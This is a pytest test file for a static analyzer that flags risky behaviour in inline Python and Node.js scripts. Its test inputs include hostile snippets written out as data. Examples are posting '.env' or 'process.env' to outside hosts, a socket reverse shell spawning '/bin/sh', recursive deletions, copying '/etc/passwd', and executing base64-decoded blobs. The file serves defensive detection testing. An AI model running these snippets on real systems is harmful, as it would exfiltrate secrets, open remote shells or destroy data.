"""Inline Python (ast) and Node.js (lexical scan) analysis."""

from __future__ import annotations

import pytest

from bastion.understand.inline_scripts import analyze_node, analyze_python


def test_python_requests_post_sends_data() -> None:
    facts = analyze_python(
        "import requests\nrequests.post('https://h.io/u', data=open('.env').read())"
    )
    assert [(d.host, d.sends_data) for d in facts.network] == [("h.io", True)]
    assert ".env" in facts.reads


def test_python_url_through_a_constant() -> None:
    facts = analyze_python("import httpx\nURL = 'https://c.io/x'\nhttpx.get(URL)")
    assert [d.host for d in facts.network] == ["c.io"]


def test_python_socket_connect_with_literals() -> None:
    facts = analyze_python("import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))")
    dest = facts.network[0]
    assert (dest.host, dest.port, dest.scheme, dest.sends_data) == (
        "198.51.100.7",
        4444,
        "tcp",
        True,
    )


def test_python_network_module_without_literal_host() -> None:
    facts = analyze_python("import urllib.request as r\nr.urlopen(url)")
    assert facts.network and facts.network[0].host == ""


def test_urllib_parse_alone_is_not_network() -> None:
    assert analyze_python("from urllib.parse import quote\nquote('a b')").network == []


def test_python_environment() -> None:
    facts = analyze_python(
        "import os\nos.environ['A']\nos.environ.get('B')\nos.getenv('C')\nos.environ['D'] = '1'"
    )
    assert sorted(facts.env_reads) == ["A", "B", "C"]
    assert analyze_python("import os, json\njson.dumps(dict(os.environ))").env_reads == ["*"]
    assert analyze_python("from os import environ\nprint(environ)").env_reads == ["*"]


def test_python_subprocess_literal_and_computed() -> None:
    facts = analyze_python("import subprocess as sp\nsp.run(['rm', '-rf', '/srv'])")
    assert facts.shell_commands == ["rm -rf /srv"]
    facts = analyze_python("import os\nos.system(cmd)")
    assert facts.opaque_reasons


def test_dunder_import_system() -> None:
    facts = analyze_python("__import__('os').system('id')")
    assert facts.shell_commands == ["id"]


def test_python_files_and_deletes() -> None:
    facts = analyze_python(
        "import shutil, os\nopen('a.txt').read()\nopen('b.txt', 'w')\n"
        "shutil.rmtree('/data')\nos.remove('c')\nshutil.copy('/etc/passwd', '/tmp/p')"
    )
    assert set(facts.reads) == {"a.txt", "/etc/passwd"}
    assert set(facts.writes) == {"b.txt", "/tmp/p"}
    assert set(facts.deletes) == {("/data", True), ("c", False)}


def test_python_exec_of_literal_is_analysed() -> None:
    facts = analyze_python("exec(\"import os; os.system('curl https://x.io')\")")
    assert facts.shell_commands == ["curl https://x.io"]


def test_python_exec_of_decoded_data() -> None:
    facts = analyze_python("import base64\nexec(base64.b64decode(blob))")
    assert facts.executions[0].detail == "decodes and executes data"
    assert facts.opaque_reasons


def test_python_eval_of_computed_text_checks_code_like_literals() -> None:
    facts = analyze_python(
        "def calc(s):\n    return eval(s)\ncalc(\"__import__('os').system('ls /etc')\")"
    )
    assert facts.opaque_reasons
    assert "ls /etc" in facts.shell_commands


def test_python_reverse_shell() -> None:
    code = (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('h.io', 9))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')"
    )
    facts = analyze_python(code)
    assert any(e.kind == "remote-shell" for e in facts.executions)


def test_python_syntax_error_is_opaque() -> None:
    assert analyze_python("def (:").opaque_reasons


def test_node_modules_env_and_processes() -> None:
    facts = analyze_node(
        "const cp = require('child_process'); cp.exec('ls -la');\n"
        "const https = require('https'); https.get('https://n.io/x');\n"
        "console.log(process.env.SECRET, process.env['OTHER']);\n"
        "require('fs').writeFileSync('/tmp/out', 'x'); fs.readFileSync('/etc/hosts');"
    )
    assert facts.shell_commands == ["ls -la"]
    assert [d.host for d in facts.network] == ["n.io"]
    assert facts.env_reads == ["SECRET", "OTHER"]
    assert facts.writes == ["/tmp/out"] and facts.reads == ["/etc/hosts"]


def test_node_fetch_post_sends() -> None:
    facts = analyze_node(
        "fetch('https://e.io', {method: 'POST', body: JSON.stringify(process.env)})"
    )
    assert facts.network[0].sends_data
    assert "*" in facts.env_reads


def test_node_net_connect() -> None:
    facts = analyze_node("const net = require('net'); net.connect(4444, '10.1.1.1')")
    assert (facts.network[0].host, facts.network[0].port) == ("10.1.1.1", 4444)


def test_node_eval_of_decoded_data() -> None:
    facts = analyze_node("eval(Buffer.from(x, 'base64').toString())")
    assert facts.opaque_reasons


def test_node_computed_exec_is_opaque() -> None:
    assert analyze_node("require('child_process').execSync(cmd)").opaque_reasons


def test_comments_and_strings_do_not_confuse_the_node_scanner() -> None:
    facts = analyze_node("// require('http')\n/* fetch('https://x') */ const s = 'process.env.X';")
    assert facts.network == [] and facts.env_reads == []


def test_python_path_object_bound_to_a_name() -> None:
    facts = analyze_python("from pathlib import Path\np = Path('/etc/group')\np.unlink()")
    assert facts.deletes == [("/etc/group", False)]


def test_python_process_killing() -> None:
    facts = analyze_python("import psutil\nfor p in psutil.process_iter():\n    p.kill()")
    assert facts.kills == [""]
    assert analyze_python("import os\nos.kill(1, 9)").kills == ["1"]


def test_nodes_are_read_in_ast_walk_order_within_the_budget() -> None:
    import ast

    from bastion.understand import inline_scripts

    tree = ast.parse(
        "import os\nfor d in ('a', 'b'):\n    os.remove(d)\nx = [f(y) for y in z if y]\n"
        "class C:\n    def m(self, *a, k=1, **kw):\n        return {1: lambda q: q}\n"
    )
    every = list(ast.walk(tree))
    assert inline_scripts._breadth_first(tree, 10**6) == every
    for limit in (1, 2, 5, len(every) - 1, len(every)):
        assert inline_scripts._breadth_first(tree, limit) == every[:limit]


def test_python_over_the_node_budget_is_opaque(monkeypatch: pytest.MonkeyPatch) -> None:
    from bastion.understand import inline_scripts

    monkeypatch.setattr(inline_scripts, "MAX_CODE_NODES", 10)
    facts = analyze_python("import os\nos.system('id')\nprint(1, 2, 3, 4, 5)")
    assert "python code over the analysis budget" in facts.opaque_reasons
    small = analyze_python("x = 1")
    assert "python code over the analysis budget" not in small.opaque_reasons


def test_a_literal_loop_is_scanned_once_per_value_after_the_shared_walk() -> None:
    unrolled = analyze_python(
        "import shutil, os\nfor d in ('/etc/cron.d', '/var/tmp/x'):\n    shutil.rmtree(d)\n"
    )
    assert {path for path, _ in unrolled.deletes} == {"/etc/cron.d", "/var/tmp/x"}
    # A loop over a computed list adds nothing: the scan reads the walk taken for the loops.
    plain = analyze_python("import os\nfor f in os.listdir('.'):\n    os.remove('/etc/hosts')\n")
    assert [path for path, _ in plain.deletes] == ["/etc/hosts"]
